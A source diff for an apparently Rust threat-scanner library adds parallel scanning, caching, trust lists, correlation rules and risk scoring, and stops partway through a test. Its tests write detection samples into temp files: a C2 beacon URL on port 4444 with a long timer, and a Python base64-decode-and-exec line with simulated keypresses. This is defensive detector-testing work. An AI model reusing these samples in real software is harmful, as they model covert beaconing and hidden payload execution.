@@ -18,6 +18,29 @@
 //! - **Temporal**: Time bombs, delayed execution
 //! - **Audio**: Covert channels, ultrasonic communication
 //! - **Injection**: Keyboard/HID attacks, clipboard hijacking
+//! - **Secrets**: Cloud keys, private keys and API tokens inside files
+//! - **File type**: Magic-byte sniffing, extensions that hide executables
+//! - **Custom**: User-defined regex rules loaded from a JSON/TOML file
+//!
+//! # Scanning
+//!
+//! [`Scanner`] bundles a registry with severity/confidence filters and
+//! [`ScanOptions`]; build one and reuse it. [`scan_path`] runs a shared
+//! default scanner, and [`scan_content_report`] scans a buffer that is not
+//! on disk.
+//!
+//! # Plugins
+//!
+//! Skills can also live in separate `cdylib` crates loaded at runtime with
+//! [`SkillRegistry::load_plugin`]; see [`plugin`].
+//!
+//! # Features
+//!
+//! - `async`: [`scan_path_async`] and [`SkillRegistry::invoke_async`], which
+//!   run the blocking scan on tokio's blocking thread pool
+//! - `tracing` (default): a `skill` span per skill run with its path and
+//!   finding count, and debug events for skipped files. Install a
+//!   `tracing` subscriber to see them.
 //!
 //! # Example
 //!
@@ -38,39 +61,757 @@
 //! }));
 //! ```
 
+#[macro_use]
+mod trace;
+
+pub mod cache;
+pub mod config;
+pub mod correlation;
 pub mod detectors;
+pub mod plugin;
+pub mod report;
+pub mod scanner;
 pub mod skills;
+pub mod trust;
 
 // Re-export main types
+pub use cache::ScanCache;
+pub use config::{FindingOverride, ScanConfig};
+pub use correlation::{CorrelationRule, CORRELATED_THREAT};
+pub use report::{ScanReport, ScanRun};
+pub use scanner::{Scanner, ScannerBuilder};
 pub use skills::{
-    create_default_registry, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput,
-    SkillRegistry, SkillResult,
+    create_default_registry, execute_with_timeout, AttackMapping, Explanation, Finding,
+    ParseSeverityError, PathFilter, ScanParams, ScanStats, Severity, Skill, SkillError,
+    SkillOutput, SkillRegistry, SkillResult, DEFAULT_MAX_FILE_BYTES, DEFAULT_SKIP_DIRS,
+    FINDING_SCHEMA_VERSION,
 };
+pub use trust::TrustedHashes;
+
+use rayon::prelude::*;
+use cache::{CacheSettings, FileStamp};
+use detectors::{sniff, sniff_file, FileKind};
+use skills::{oversized_file, run_skill, walk_files};
+use std::collections::hash_map::{Entry, HashMap};
+use std::collections::HashSet;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
 
 /// Library version
 pub const VERSION: &str = env!("CARGO_PKG_VERSION");
 
+/// Skill name in a [`ScanReport`] for findings produced by the scan itself
+/// rather than a detector (such as `file_skipped_too_large`)
+pub const SCANNER: &str = "scanner";
+
+/// Explanations for the finding types reported under [`SCANNER`]
+pub(crate) const SCANNER_EXPLANATIONS: skills::Explanations = &[
+    Explanation::new(
+        "file_skipped_too_large",
+        "The file is larger than the per-file size cap (50 MB unless --max-file-bytes or \
+         ScanOptions::max_file_bytes says otherwise), so no detector read it.",
+        "Nothing was found, but nothing was checked either; an attacker can pad a payload \
+         past the cap to slip it through.",
+        "Disk images, video, datasets, build artifacts and database dumps are routinely \
+         this large.",
+        "Confirm the file is expected. To analyze it anyway, rerun the scan with a larger \
+         --max-file-bytes.",
+    ),
+    Explanation::new(
+        "file_trusted",
+        "The file's SHA-256 is on the trust list passed with --trust-hashes, so detection \
+         was skipped for it.",
+        "Reported so the scan record shows which files were vouched for rather than \
+         silently omitting them.",
+        "This is informational; every entry comes from your own allowlist.",
+        "Review the trust list periodically and remove hashes of files you no longer ship.",
+    ),
+    Explanation::new(
+        "correlated_threat",
+        "Several findings in one file matched a correlation rule, such as microphone access, \
+         a hardcoded address and a long timer together. value.findings lists them.",
+        "Findings that are each medium can add up to a clear attack: together they describe \
+         what the file does rather than what it might do.",
+        "Legitimate tools that combine the same capabilities, such as a conferencing client \
+         that records audio and uploads it on a schedule.",
+        "Review the contributing findings together. Tune or replace the rules with a \
+         `correlations` list in the scan config.",
+    ),
+];
+
+/// Progress snapshot reported after each file of a full scan
+#[derive(Debug, Clone)]
+pub struct ScanProgress<'a> {
+    /// Files processed so far
+    pub files_done: usize,
+
+    /// Files found by the walk
+    pub files_total: usize,
+
+    /// File that was just processed
+    pub current: &'a Path,
+
+    /// Findings gathered so far
+    pub findings: usize,
+}
+
+/// Callback invoked with scan progress
+pub type ProgressCallback = Arc<dyn Fn(&ScanProgress<'_>) + Send + Sync>;
+
+/// Options controlling a full multi-skill scan
+#[derive(Clone, Default)]
+pub struct ScanOptions {
+    /// Wall-clock cap for the whole scan. Once exceeded, no new work is
+    /// started and the findings gathered so far are returned. This is the
+    /// full-scan counterpart of [`ScanParams::scan_budget_ms`], which
+    /// applies only to a skill invoked on its own.
+    pub time_budget: Option<Duration>,
+
+    /// Called after each file is processed. With parallel scanning the
+    /// callback may be invoked from several threads at once.
+    pub progress: Option<ProgressCallback>,
+
+    /// Run skills and files on the calling thread instead of the rayon pool
+    pub serial: bool,
+
+    /// Per-skill-run limit. A run that exceeds it is abandoned (counted in
+    /// the `skill_timeouts` metadata) and the scan carries on.
+    pub skill_timeout: Option<Duration>,
+
+    /// Files larger than this are not read (default 50 MB); each yields an
+    /// info-level `file_skipped_too_large` finding instead
+    pub max_file_bytes: Option<u64>,
+
+    /// Globs a file's path relative to the scan root must match (any of)
+    pub include: Vec<String>,
+
+    /// Globs that exclude a file even if it matches `include`
+    pub exclude: Vec<String>,
+
+    /// Directories to prune in addition to [`DEFAULT_SKIP_DIRS`]; a bare
+    /// name matches at any depth, a path with `/` relative to the root
+    /// (`./name` for a top-level directory)
+    pub skip_dirs: Vec<String>,
+
+    /// JSON/TOML custom rules file; when set, `detect_custom_rules` runs
+    /// alongside the built-in detectors
+    pub rules_path: Option<PathBuf>,
+
+    /// Scan only these files (absolute, or relative to the scan root)
+    /// instead of walking the tree. Missing files are ignored, and
+    /// tree-level findings are kept only when they point at a listed file.
+    pub files: Option<Vec<PathBuf>>,
+
+    /// Per-finding-type overrides applied to the combined findings, and
+    /// correlation rules to use instead of the built-in ones
+    pub config: Option<ScanConfig>,
+
+    /// Keep full severity for findings in test/fixture directories instead
+    /// of capping them (see [`downgrade_test_fixture`])
+    pub no_test_downgrade: bool,
+
+    /// Files whose SHA-256 is listed are not analyzed; each yields an
+    /// info-level `file_trusted` finding instead. Every file is hashed
+    /// before detection when this is set.
+    pub trusted_hashes: Option<Arc<TrustedHashes>>,
+
+    /// Reuse per-file findings from an earlier scan for files whose mtime
+    /// and size are unchanged, and record this scan's for the next one.
+    /// The caller saves it afterwards with [`ScanCache::save`].
+    pub cache: Option<Arc<ScanCache>>,
+
+    /// Run every per-file skill on every file. By default each file's type
+    /// is sniffed first and skills whose [`Skill::applies_to`] rules it out
+    /// are skipped (counted in the `skills_skipped` metadata).
+    pub all_skills: bool,
+}
+
+impl fmt::Debug for ScanOptions {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("ScanOptions")
+            .field("time_budget", &self.time_budget)
+            .field("progress", &self.progress.is_some())
+            .field("serial", &self.serial)
+            .field("skill_timeout", &self.skill_timeout)
+            .field("max_file_bytes", &self.max_file_bytes)
+            .field("include", &self.include)
+            .field("exclude", &self.exclude)
+            .field("skip_dirs", &self.skip_dirs)
+            .field("rules_path", &self.rules_path)
+            .field("files", &self.files)
+            .field("config", &self.config)
+            .field("no_test_downgrade", &self.no_test_downgrade)
+            .field("trusted_hashes", &self.trusted_hashes.as_ref().map(|t| t.len()))
+            .field("cache", &self.cache.as_ref().map(|c| c.len()))
+            .field("all_skills", &self.all_skills)
+            .finish()
+    }
+}
+
 /// Run all detectors on a path and return combined findings
+///
+/// Uses a shared default [`Scanner`], built on first use.
 pub fn scan_path(path: &str) -> SkillResult<Vec<Finding>> {
-    let registry = create_default_registry();
-    let params = serde_json::json!({ "path": path });
+    Scanner::shared().scan(path)
+}
+
+/// Run all detectors on a path from async code
+///
+/// Same as [`scan_path`], but the scan runs on tokio's blocking thread pool
+/// so callers inside a runtime don't stall the executor.
+#[cfg(feature = "async")]
+pub async fn scan_path_async(path: &str) -> SkillResult<Vec<Finding>> {
+    let path = path.to_string();
+    tokio::task::spawn_blocking(move || scan_path(&path))
+        .await
+        .map_err(|e| SkillError::AnalysisFailed(format!("Scan task failed: {}", e)))?
+}
+
+/// Run all detectors on a path under the given options
+///
+/// Returns the aggregate of [`scan_path_report_with_options`].
+pub fn scan_path_with_options(path: &str, options: &ScanOptions) -> SkillResult<SkillOutput> {
+    scan_path_report_with_options(path, options).map(|report| report.aggregate)
+}
 
-    let mut all_findings = Vec::new();
+/// Run all detectors on a path and keep each skill's output
+pub fn scan_path_report(path: &str) -> SkillResult<ScanReport> {
+    scan_path_report_with_options(path, &ScanOptions::default())
+}
 
-    for name in registry.list() {
-        if let Ok(output) = registry.invoke(name, params.clone()) {
-            all_findings.extend(output.findings);
+/// Run all detectors on a path under the given options, keeping each
+/// skill's merged output
+///
+/// The tree is walked once: tree-level skills (see [`Skill::scans_tree`])
+/// run on the root, every other skill runs on each file whose sniffed type
+/// it [applies to](Skill::applies_to), or on every file with
+/// [`ScanOptions::all_skills`]. Unless
+/// [`ScanOptions::serial`] is set, tree skills and files are processed
+/// concurrently on the rayon pool; results are collected in walk order and
+/// sorted, so the output is identical to a serial run. If the time budget
+/// is exhausted the aggregate is marked incomplete and its metadata carries
+/// `aborted_due_to_time_budget: true`. A skill run that fails or times out
+/// leaves that skill's output incomplete with the error in its metadata.
+/// Findings in test/fixture directories are capped at medium unless
+/// [`ScanOptions::no_test_downgrade`] is set.
+/// Files over the size cap or matching [`ScanOptions::trusted_hashes`] are
+/// reported under the [`SCANNER`] pseudo-skill; tree-level findings on
+/// trusted files are dropped. With [`ScanOptions::cache`], unchanged files
+/// reuse their cached findings, counted in the `cache_hits` metadata.
+/// Findings that co-occur in one file are then run through the
+/// [`correlation`] rules, whose `correlated_threat` findings are reported
+/// under [`SCANNER`].
+pub fn scan_path_report_with_options(
+    path: &str,
+    options: &ScanOptions,
+) -> SkillResult<ScanReport> {
+    match &options.rules_path {
+        None => run_scan(Scanner::shared().registry(), path, options),
+        Some(rules_path) => {
+            let mut registry = create_default_registry();
+            registry.register_custom_rules(rules_path)?;
+            run_scan(&registry, path, options)
         }
     }
+}
+
+/// Run every per-file detector on an in-memory buffer, as if it were a file
+/// called `name`, keeping each skill's output
+///
+/// Each skill's [`Skill::analyze_content`] sees the buffer; tree-level
+/// skills have no tree to look at and are skipped. `rules_path`, `config`,
+/// `no_test_downgrade` and correlation apply as in
+/// [`scan_path_report_with_options`];
+/// the walk, budget and trust options have nothing to act on. A skill that
+/// fails leaves its output incomplete with the error in its metadata.
+pub fn scan_content_report(
+    name: &str,
+    content: &str,
+    options: &ScanOptions,
+) -> SkillResult<ScanReport> {
+    let custom;
+    let registry = match &options.rules_path {
+        None => Scanner::shared().registry(),
+        Some(rules_path) => {
+            let mut registry = create_default_registry();
+            registry.register_custom_rules(rules_path)?;
+            custom = registry;
+            &custom
+        }
+    };
+
+    let run = ScanRun::start(name, registry.list());
+    let kind = sniff(content.as_bytes());
+    let mut outputs: Vec<(String, SkillOutput)> = registry
+        .list()
+        .iter()
+        .filter_map(|skill_name| registry.get(skill_name))
+        .filter(|skill| !skill.scans_tree())
+        .filter(|skill| options.all_skills || skill.applies_to(Path::new(name), kind))
+        .map(|skill| {
+            let output = match skill.analyze_content(name, content) {
+                Ok(findings) => {
+                    let mut findings = match &options.config {
+                        Some(config) => config.apply(findings),
+                        None => findings,
+                    };
+                    if !options.no_test_downgrade {
+                        findings
+                            .iter_mut()
+                            .for_each(|finding| downgrade_test_fixture(Path::new(""), finding));
+                    }
+                    SkillOutput::with_findings(findings)
+                }
+                Err(e) => SkillOutput {
+                    complete: false,
+                    metadata: serde_json::json!({ "error": e.to_string() }),
+                    ..SkillOutput::empty()
+                },
+            };
+            (skill.name().to_string(), output)
+        })
+        .collect();
+    outputs.extend(correlate_outputs(Path::new(""), &outputs, options));
+
+    Ok(ScanReport::merge(outputs).with_run(run))
+}
+
+/// Full scan of `path` with the skills in `registry`; `options.rules_path`
+/// is not consulted here
+fn run_scan(
+    registry: &SkillRegistry,
+    path: &str,
+    options: &ScanOptions,
+) -> SkillResult<ScanReport> {
+    let root = Path::new(path);
+    if !root.exists() {
+        return Err(SkillError::InvalidParams(format!(
+            "Path does not exist: {}",
+            root.display()
+        )));
+    }
+
+    let run = ScanRun::start(path, registry.list());
+    let started = Instant::now();
+    let aborted = AtomicBool::new(false);
+    let over_budget = || {
+        let exceeded = options
+            .time_budget
+            .is_some_and(|budget| started.elapsed() >= budget);
+        if exceeded {
+            aborted.store(true, Ordering::Relaxed);
+        }
+        exceeded
+    };
+
+    let skills: Vec<_> = registry
+        .list()
+        .iter()
+        .filter_map(|name| registry.get(name))
+        .collect();
+    let (tree_skills, file_skills): (Vec<_>, Vec<_>) =
+        skills.into_iter().partition(|skill| skill.scans_tree());
+    let max_file_bytes = options.max_file_bytes.unwrap_or(DEFAULT_MAX_FILE_BYTES);
+    if let Some(cache) = &options.cache {
+        let names: Vec<&str> = file_skills.iter().map(|skill| skill.name()).collect();
+        let settings = CacheSettings {
+            rules_sha256: options
+                .rules_path
+                .as_ref()
+                .and_then(|path| std::fs::read(path).ok())
+                .map(|rules| trust::sha256_hex(&rules)),
+            all_skills: options.all_skills,
+            max_file_bytes,
+        };
+        cache.begin(&names, settings);
+    }
+
+    let filter =
+        PathFilter::new(&options.include, &options.exclude)?.with_skip_dirs(&options.skip_dirs);
+    let mut files: Vec<PathBuf> = if root.is_file() {
+        vec![root.to_path_buf()]
+    } else if let Some(list) = &options.files {
+        list.iter()
+            .map(|file| root.join(file))
+            .filter(|file| {
+                file.is_file() && filter.allows(root, file) && !filter.in_skipped_dir(root, file)
+            })
+            .collect()
+    } else {
+        walk_files(root, true, &filter)
+            .map(|entry| entry.into_path())
+            .collect()
+    };
+    if let Some(cache) = &options.cache {
+        files.retain(|file| !cache.is_cache_file(file));
+    }
+
+    let files_done = AtomicUsize::new(0);
+    let findings_found = AtomicUsize::new(0);
+    let timeouts = AtomicUsize::new(0);
+    let cache_hits = AtomicUsize::new(0);
+    let skills_skipped = AtomicUsize::new(0);
+
+    let execute = |skill: &Arc<dyn Skill>, params: serde_json::Value| -> (String, SkillOutput) {
+        let result = match options.skill_timeout {
+            Some(timeout) => execute_with_timeout(Arc::clone(skill), params, timeout),
+            None => run_skill(skill.as_ref(), params),
+        };
+
+        let output = match result {
+            Ok(output) => output,
+            Err(e) => {
+                if matches!(e, SkillError::Timeout(_)) {
+                    timeouts.fetch_add(1, Ordering::Relaxed);
+                }
+                SkillOutput {
+                    complete: false,
+                    metadata: serde_json::json!({ "error": e.to_string() }),
+                    ..SkillOutput::empty()
+                }
+            }
+        };
+        (skill.name().to_string(), output)
+    };
+
+    let count = |outputs: &[(String, SkillOutput)]| -> usize {
+        outputs.iter().map(|(_, output)| output.findings.len()).sum()
+    };
+
+    let run_tree_skill = |skill: &Arc<dyn Skill>| -> Vec<(String, SkillOutput)> {
+        if over_budget() {
+            return Vec::new();
+        }
+
+        let output = execute(
+            skill,
+            serde_json::json!({
+                "path": path,
+                "include": options.include,
+                "exclude": options.exclude,
+                "skip_dirs": options.skip_dirs
+            }),
+        );
+        findings_found.fetch_add(output.1.findings.len(), Ordering::Relaxed);
+        vec![output]
+    };
+
+    let run_file = |file: &PathBuf| -> Vec<(String, SkillOutput)> {
+        if over_budget() {
+            return Vec::new();
+        }
+
+        let size = file.metadata().map(|m| m.len()).unwrap_or(0);
+        let cache = options
+            .cache
+            .as_deref()
+            .and_then(|cache| Some((cache, FileStamp::of(file)?)));
+        let mut outputs = Vec::new();
+        if let Some(skipped) = oversized_file(file, size, max_file_bytes) {
+            outputs.push((SCANNER.to_string(), SkillOutput::with_findings(vec![skipped])));
+        } else if let Some(trusted) = options
+            .trusted_hashes
+            .as_ref()
+            .and_then(|trusted| trusted.check_file(file))
+        {
+            outputs.push((SCANNER.to_string(), SkillOutput::with_findings(vec![trusted])));
+        } else if let Some(cached) = cache.and_then(|(cache, stamp)| cache.get(file, stamp)) {
+            cache_hits.fetch_add(1, Ordering::Relaxed);
+            outputs.extend(
+                cached
+                    .into_iter()
+                    .map(|(skill, findings)| (skill, SkillOutput::with_findings(findings))),
+            );
+        } else {
+            let params = serde_json::json!({
+                "path": file.display().to_string(),
+                "max_file_bytes": max_file_bytes
+            });
+            let kind = if options.all_skills {
+                FileKind::Unknown
+            } else {
+                sniff_file(file).unwrap_or(FileKind::Unknown)
+            };
+            for skill in &file_skills {
+                if options.all_skills || skill.applies_to(file, kind) {
+                    outputs.push(execute(skill, params.clone()));
+                } else {
+                    skills_skipped.fetch_add(1, Ordering::Relaxed);
+                }
+            }
+
+            // A failed or timed-out run would otherwise be replayed as clean
+            if let Some((cache, stamp)) = cache {
+                if outputs.iter().all(|(_, output)| output.complete) {
+                    let findings = outputs
+                        .iter()
+                        .map(|(skill, output)| (skill.clone(), output.findings.clone()))
+                        .collect();
+                    cache.insert(file, stamp, findings);
+                }
+            }
+        }
+
+        let done = files_done.fetch_add(1, Ordering::Relaxed) + 1;
+        let new = count(&outputs);
+        let found = findings_found.fetch_add(new, Ordering::Relaxed) + new;
+        if let Some(progress) = &options.progress {
+            progress(&ScanProgress {
+                files_done: done,
+                files_total: files.len(),
+                current: file,
+                findings: found,
+            });
+        }
+
+        outputs
+    };
+
+    type Outputs = Vec<Vec<(String, SkillOutput)>>;
+    let (mut tree_outputs, file_outputs): (Outputs, Outputs) = if options.serial {
+        (
+            tree_skills.iter().map(run_tree_skill).collect(),
+            files.iter().map(run_file).collect(),
+        )
+    } else {
+        rayon::join(
+            || tree_skills.par_iter().map(run_tree_skill).collect(),
+            || files.par_iter().map(run_file).collect(),
+        )
+    };
+
+    // With an explicit file list, tree skills still walk everything, so keep
+    // only what they found on the listed files
+    if options.files.is_some() && !root.is_file() {
+        let listed: HashSet<PathBuf> = files.iter().filter_map(|f| f.canonicalize().ok()).collect();
+        for (_, output) in tree_outputs.iter_mut().flatten() {
+            output.findings.retain(|f| {
+                Path::new(&f.location)
+                    .canonicalize()
+                    .is_ok_and(|p| listed.contains(&p))
+            });
+        }
+    }
+
+    // Tree skills don't consult the trust list, so drop what they found on
+    // files the per-file pass recognized as trusted
+    let trusted: HashSet<PathBuf> = file_outputs
+        .iter()
+        .flatten()
+        .flat_map(|(_, output)| &output.findings)
+        .filter(|f| f.finding_type == "file_trusted")
+        .filter_map(|f| Path::new(&f.location).canonicalize().ok())
+        .collect();
+    if !trusted.is_empty() {
+        for (_, output) in tree_outputs.iter_mut().flatten() {
+            output.findings.retain(|f| {
+                Path::new(&f.location)
+                    .canonicalize()
+                    .map_or(true, |p| !trusted.contains(&p))
+            });
+        }
+    }
+
+    let mut outputs: Vec<(String, SkillOutput)> =
+        tree_outputs.into_iter().chain(file_outputs).flatten().collect();
+    for (_, output) in &mut outputs {
+        if let Some(config) = &options.config {
+            output.findings = config.apply(std::mem::take(&mut output.findings));
+        }
+        if !options.no_test_downgrade {
+            output
+                .findings
+                .iter_mut()
+                .for_each(|finding| downgrade_test_fixture(root, finding));
+        }
+    }
+    outputs.extend(correlate_outputs(root, &outputs, options));
+    let found = count(&outputs);
+    let mut report = ScanReport::merge(outputs).with_run(run);
+    let duplicates = found - report.aggregate.findings.len();
+
+    let aborted = aborted.load(Ordering::Relaxed);
+    report.aggregate.complete = !aborted;
+    report.aggregate.metadata = serde_json::json!({
+        "files_scanned": files_done.load(Ordering::Relaxed),
+        "files_total": files.len(),
+        "elapsed_ms": started.elapsed().as_millis() as u64,
+        "aborted_due_to_time_budget": aborted,
+        "skill_timeouts": timeouts.load(Ordering::Relaxed),
+        "cache_hits": cache_hits.load(Ordering::Relaxed),
+        "skills_skipped": skills_skipped.load(Ordering::Relaxed),
+        "duplicates_removed": duplicates
+    });
+    info!(
+        path,
+        files = files.len(),
+        findings = report.aggregate.findings.len(),
+        elapsed_ms = started.elapsed().as_millis() as u64,
+        aborted,
+        "scan finished"
+    );
+
+    Ok(report)
+}
+
+/// Findings the correlation rules synthesize from `outputs`, as a
+/// [`SCANNER`] output, or `None` if no rule fired. The config's
+/// `correlations` replace the built-in rules; its overrides and the
+/// fixture cap apply as they do to detector findings.
+fn correlate_outputs(
+    root: &Path,
+    outputs: &[(String, SkillOutput)],
+    options: &ScanOptions,
+) -> Option<(String, SkillOutput)> {
+    let defaults;
+    let rules = match options.config.as_ref().and_then(|c| c.correlations.as_ref()) {
+        Some(rules) => rules,
+        None => {
+            defaults = correlation::default_rules();
+            &defaults
+        }
+    };
+
+    let findings = outputs.iter().flat_map(|(_, output)| &output.findings);
+    let mut correlated = correlation::correlate(rules, findings);
+    if let Some(config) = &options.config {
+        correlated = config.apply(correlated);
+    }
+    if !options.no_test_downgrade {
+        correlated
+            .iter_mut()
+            .for_each(|finding| downgrade_test_fixture(root, finding));
+    }
+
+    (!correlated.is_empty()).then(|| (SCANNER.to_string(), SkillOutput::with_findings(correlated)))
+}
+
+/// Directory names that mark test code and fixtures
+pub const TEST_FIXTURE_DIRS: &[&str] = &["tests", "fixtures", "testdata", "__tests__", "spec"];
+
+/// Highest severity a finding in a test/fixture directory keeps
+pub const TEST_FIXTURE_MAX_SEVERITY: Severity = Severity::Medium;
+
+/// Whether `location` is inside a [`TEST_FIXTURE_DIRS`] directory below
+/// `root`. Whole path components are compared, so `latest/` or
+/// `tests.rs` don't count, and directories above the root are ignored.
+pub fn in_test_fixture(root: &Path, location: &str) -> bool {
+    let location = Path::new(location);
+    let relative = location.strip_prefix(root).unwrap_or(location);
+    relative
+        .parent()
+        .is_some_and(|dir| {
+            dir.components()
+                .any(|c| TEST_FIXTURE_DIRS.iter().any(|name| c.as_os_str() == *name))
+        })
+}
+
+/// Cap a finding in a test/fixture directory at
+/// [`TEST_FIXTURE_MAX_SEVERITY`] and tag it `metadata.in_test_fixture`.
+/// Test fixtures often contain malicious-looking samples on purpose. A
+/// lowered severity is recorded in `metadata.original_severity`.
+pub fn downgrade_test_fixture(root: &Path, finding: &mut Finding) {
+    if !in_test_fixture(root, &finding.location) {
+        return;
+    }
+
+    if !finding.metadata.is_object() {
+        finding.metadata = serde_json::json!({});
+    }
+    finding.metadata["in_test_fixture"] = serde_json::json!(true);
+    if finding.severity > TEST_FIXTURE_MAX_SEVERITY {
+        finding.metadata["original_severity"] = serde_json::json!(finding.severity);
+        finding.severity = TEST_FIXTURE_MAX_SEVERITY;
+    }
+}
+
+/// Weight of one fully-confident finding at each severity in [`risk_score`]
+pub const RISK_WEIGHT_CRITICAL: f32 = 10.0;
+pub const RISK_WEIGHT_HIGH: f32 = 5.0;
+pub const RISK_WEIGHT_MEDIUM: f32 = 2.0;
+pub const RISK_WEIGHT_LOW: f32 = 1.0;
+pub const RISK_WEIGHT_INFO: f32 = 0.0;
+
+/// Each further unit of confidence at a severity adds this fraction of the
+/// remaining headroom (0.5: the first finding counts half, the next a
+/// quarter, ...), so a tier can never contribute more than its weight
+pub const RISK_TIER_DECAY: f32 = 0.5;
 
-    // Sort by severity (critical first) then confidence
-    all_findings.sort_by(|a, b| {
+/// Tier total that maps to a score of about 63; larger values make the
+/// score climb more slowly
+pub const RISK_SCALE: f32 = 6.0;
+
+/// Weight of one fully-confident finding at `severity`
+pub fn risk_weight(severity: Severity) -> f32 {
+    match severity {
+        Severity::Critical => RISK_WEIGHT_CRITICAL,
+        Severity::High => RISK_WEIGHT_HIGH,
+        Severity::Medium => RISK_WEIGHT_MEDIUM,
+        Severity::Low => RISK_WEIGHT_LOW,
+        Severity::Info => RISK_WEIGHT_INFO,
+    }
+}
+
+/// Aggregate 0-100 risk score for a set of findings
+///
+/// Confidences are summed per severity. A tier with confidence sum `n`
+/// contributes `weight * (1 - RISK_TIER_DECAY^n)`, so it saturates at its
+/// weight; because the low tier tops out at 1.0, no number of low findings
+/// can outweigh a single confident critical. The tier total `t` then maps
+/// to `100 * (1 - e^(-t / RISK_SCALE))`. Adding a finding never lowers the
+/// score.
+pub fn risk_score(findings: &[Finding]) -> f32 {
+    // Summed in a fixed tier order so the result is reproducible bit for bit
+    let total: f32 = Severity::ALL
+        .into_iter()
+        .map(|severity| {
+            let n: f32 = findings
+                .iter()
+                .filter(|f| f.severity == severity)
+                .map(|f| f.confidence.clamp(0.0, 1.0))
+                .sum();
+            risk_weight(severity) * (1.0 - RISK_TIER_DECAY.powf(n))
+        })
+        .sum();
+
+    100.0 * (1.0 - (-total / RISK_SCALE).exp())
+}
+
+/// Drop findings with the same [`Finding::fingerprint`], keeping the most
+/// confident copy of each
+fn dedup_findings(findings: Vec<Finding>) -> Vec<Finding> {
+    let mut best: HashMap<String, Finding> = HashMap::with_capacity(findings.len());
+
+    for finding in findings {
+        match best.entry(finding.fingerprint()) {
+            Entry::Occupied(mut slot) => {
+                if finding.confidence > slot.get().confidence {
+                    slot.insert(finding);
+                }
+            }
+            Entry::Vacant(slot) => {
+                slot.insert(finding);
+            }
+        }
+    }
+
+    best.into_values().collect()
+}
+
+/// Sort by severity (critical first) then confidence, breaking ties on
+/// location, type and value so the order is stable across runs
+fn sort_findings(findings: &mut [Finding]) {
+    findings.sort_by(|a, b| {
         b.severity
             .cmp(&a.severity)
-            .then(b.confidence.partial_cmp(&a.confidence).unwrap())
+            .then(b.confidence.total_cmp(&a.confidence))
+            .then_with(|| a.location.cmp(&b.location))
+            .then_with(|| a.finding_type.cmp(&b.finding_type))
+            .then_with(|| a.value.to_string().cmp(&b.value.to_string()))
     });
-
-    Ok(all_findings)
 }
 
 /// Export all skill schemas for ML training
@@ -83,6 +824,10 @@ pub fn export_tool_schemas() -> serde_json::Value {
 mod tests {
     use super::*;
 
+    /// A C2 address beside a long timer, which the network and temporal
+    /// detectors both report
+    const C2_PAYLOAD: &str = "const c2 = 'http://203.0.113.7:4444'; setTimeout(run, 600000);";
+
     #[test]
     fn test_registry_creation() {
         let registry = create_default_registry();
@@ -96,6 +841,7 @@ mod tests {
         assert!(skills.contains(&"detect_audio_channels"));
         assert!(skills.contains(&"detect_injection_attacks"));
         assert!(skills.contains(&"detect_svg_injection"));
+        assert!(skills.contains(&"detect_secrets"));
         assert!(skills.contains(&"detect_filesystem_threats"));
     }
 
@@ -106,4 +852,439 @@ mod tests {
         assert!(schemas.get("skills").is_some());
         assert!(schemas.get("version").is_some());
     }
+
+    #[test]
+    fn test_schema_export_is_deterministic() {
+        let first = serde_json::to_string(&export_tool_schemas()).unwrap();
+        for _ in 0..5 {
+            assert_eq!(serde_json::to_string(&export_tool_schemas()).unwrap(), first);
+        }
+
+        let registry = create_default_registry();
+        let names = registry.list();
+        let mut sorted = names.clone();
+        sorted.sort_unstable();
+        assert_eq!(names, sorted);
+    }
+
+    #[test]
+    fn test_parallel_scan_matches_serial() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("nested")).unwrap();
+        for i in 0..20 {
+            std::fs::write(dir.path().join(format!("beacon_{}.js", i)), C2_PAYLOAD).unwrap();
+            std::fs::write(
+                dir.path().join("nested").join(format!("stage_{}.py", i)),
+                "import base64; exec(base64.b64decode(payload)); pyautogui.press('enter')",
+            )
+            .unwrap();
+        }
+        let path = dir.path().to_str().unwrap();
+
+        let serial = scan_path_with_options(
+            path,
+            &ScanOptions {
+                serial: true,
+                ..Default::default()
+            },
+        )
+        .unwrap();
+        let parallel = scan_path_with_options(path, &ScanOptions::default()).unwrap();
+
+        assert!(!serial.findings.is_empty());
+        assert_eq!(
+            serde_json::to_string(&parallel.findings).unwrap(),
+            serde_json::to_string(&serial.findings).unwrap()
+        );
+        assert_eq!(parallel.metadata["files_scanned"], serial.metadata["files_scanned"]);
+    }
+
+    #[test]
+    fn test_exclude_globs_skip_vendored_files() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("node_modules/pkg")).unwrap();
+        std::fs::write(dir.path().join("node_modules/pkg/index.js"), C2_PAYLOAD).unwrap();
+        std::fs::write(dir.path().join("bundle.min.js"), C2_PAYLOAD).unwrap();
+        std::fs::write(dir.path().join("app.js"), C2_PAYLOAD).unwrap();
+
+        let output = scan_path_with_options(
+            dir.path().to_str().unwrap(),
+            &ScanOptions {
+                exclude: vec!["**/node_modules/**".into(), "**/*.min.js".into()],
+                ..Default::default()
+            },
+        )
+        .unwrap();
+
+        assert_eq!(output.metadata["files_total"], 1);
+        assert!(output
+            .findings
+            .iter()
+            .all(|f| f.location.ends_with("app.js")));
+    }
+
+    #[test]
+    fn test_explicit_file_list_limits_scan() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("changed.js"), C2_PAYLOAD).unwrap();
+        std::fs::write(dir.path().join("untouched.js"), C2_PAYLOAD).unwrap();
+        std::fs::write(dir.path().join(".env"), "SECRET=1").unwrap();
+
+        let scan = |files: &[&str]| {
+            scan_path_with_options(
+                dir.path().to_str().unwrap(),
+                &ScanOptions {
+                    files: Some(files.iter().map(PathBuf::from).collect()),
+                    ..Default::default()
+                },
+            )
+            .unwrap()
+        };
+
+        let output = scan(&["changed.js", "deleted.js"]);
+        assert_eq!(output.metadata["files_total"], 1);
+        assert!(!output.findings.is_empty());
+        assert!(output
+            .findings
+            .iter()
+            .all(|f| f.location.ends_with("changed.js")));
+
+        // Tree-level findings survive when they point at a listed file
+        let output = scan(&["changed.js", ".env"]);
+        assert!(output.findings.iter().any(|f| f.location.ends_with(".env")));
+    }
+
+    #[test]
+    fn test_content_scan_matches_file_scan() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("beacon.js");
